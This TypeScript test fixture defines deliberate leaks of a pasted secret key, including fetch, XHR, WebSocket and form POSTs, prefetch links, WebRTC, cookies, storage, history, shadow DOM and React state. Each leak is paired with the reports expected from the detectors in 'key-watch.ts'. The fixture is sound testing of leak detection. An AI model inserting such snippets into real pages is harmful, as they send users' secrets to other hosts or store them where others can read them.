/** The arguments of a leak: where it would send the key, and its own name. */
export interface LeakTarget {
  url: string
  stun: string
  name: string
}

/** A deliberate leak. It runs inside the page, as code of a build, when a key is pasted. */
export interface Leak {
  leak: (secret: string, target: LeakTarget) => unknown
  /** What each detector must report about it. No other leak in the same build causes these reports. */
  told: readonly RegExp[]
}

/**
 * Enough leaks for every detector of `key-watch.ts` to report something: Playwright's events, wrapped calls,
 * constructors and setters, the browser's own events, the stores, and the search through the page. Whether a browser
 * reports a beacon in the same way as a `fetch` is not tested here.
 */
export const leaks = {
  fetch: {
    leak: (secret, { url }) => void fetch(url, { method: 'POST', body: secret }).catch(() => {}),
    told: [/^call: Window.fetch/, /^browser: log .*\/fetch/, /^console: .*\/fetch/],
  },
  xhr: {
    leak: (secret, { url }) => {
      const request = new XMLHttpRequest()
      request.open('POST', url)
      request.send(secret)
    },
    told: [/^call: XMLHttpRequest.send/, /^browser: XHR POST .*\/xhr -----BEGIN/],
  },
  websocket: {
    leak: (secret, { url }) => {
      const socket = new WebSocket(url.replace('http:', 'ws:'))
      socket.onopen = () => socket.send(secret)
    },
    told: [/^new: WebSocket/, /^browser: log .*\/websocket/],
  },
  prefetch: {
    leak: (secret, { url }) => {
      const href = `${url}?${btoa(secret)}`
      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href }))
    },
    told: [/^request: GET .*\/prefetch/, /^browser: .*\/prefetch/, /^kept: links .*\/prefetch/],
  },
  webrtc: {
    leak: async (_, { stun }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] })
      peer.createDataChannel('leak')
      await peer.setLocalDescription(await peer.createOffer())
    },
    told: [/^new: RTCPeerConnection/],
  },
  form: {
    leak: (secret, { url, name }) => {
      const frame = Object.assign(document.createElement('iframe'), { name })
      const form = Object.assign(document.createElement('form'), {
        action: url,
        method: 'post',
        target: name,
      })
      form.append(Object.assign(document.createElement('input'), { name: 'leak', value: secret }))
      document.body.append(frame, form)
      form.submit()
    },
    told: [
      /^call: HTMLFormElement.submit/,
      /^browser: navigation formSubmissionPost .*\/form/,
      /^browser: frame$/,
      /^in the page: value of input/,
    ],
  },
  console: {
    leak: (secret, { name }) => console.log(name, secret),
    told: [/^console: console -----BEGIN/, /^browser: console .*-----BEGIN/],
  },
  'local-storage': {
    leak: (secret, { name }) => localStorage.setItem(name, secret),
    told: [/^kept: localStorage/, /^browser: DOM storage local-storage=-----BEGIN/],
  },
  'indexed-db': {
    leak: (secret, { name }) => {
      const opening = indexedDB.open(name)
      opening.onupgradeneeded = () => opening.result.createObjectStore(name).put(secret, name)
    },
    told: [/^call: IDBFactory.open/, /^kept: databases/, /^browser: IndexedDB/],
  },
  cookie: {
    leak: (secret, { name }) => {
      Reflect.set(document, 'cookie', `${name}=${encodeURIComponent(secret)}`)
    },
    told: [/^set: cookie/, /^kept: cookies .*"cookie=/],
  },
  'history-entry': {
    leak: (secret, { name }) => history.pushState(null, '', `?${name}=${btoa(secret)}`),
    told: [
      /^call: History.pushState/,
      /^browser: history .*\?history-entry/,
      /^kept: url/,
      /^kept: historyLength/,
    ],
  },
  'shown-text': {
    leak: (secret) => document.querySelector('main')?.append(secret),
    told: [
      /^in the page: text of main$/,
      /^in the page: page as HTML/,
      /^in the page: page as XML/,
      /^in the page: page as archive/,
      /^in the page: tree for/,
    ],
  },
  'shadow-tree': {
    leak: (secret) => {
      const host = document.body.appendChild(document.createElement('div'))
      host
        .attachShadow({ mode: 'open' })
        .append(Object.assign(document.createElement('i'), { textContent: secret, hidden: true }))
    },
    told: [/^in the page: text of i$/],
  },
  'react-state': {
    leak: (secret) => {
      const main = document.querySelector('main')
      const name = Object.getOwnPropertyNames(main).find((each) => each.startsWith('__reactFiber'))
      const body = secret.split('\n').slice(1, 4).join('')
      Object.assign(Reflect.get(main ?? {}, name ?? '').return, {
        leak: Uint8Array.from(atob(body), (character) => character.charCodeAt(0)),
      })
    },
    told: [/^in the page: .*\.leak$/],
  },
  'last-match': {
    leak: (secret) => {
      // It is repeated, because the page's own regular expressions run after it.
      setInterval(() => /BEGIN/u.exec(secret), 20)
    },
    told: [/^in the page: RegExp.input/],
  },
} satisfies Readonly<Record<string, Leak>>
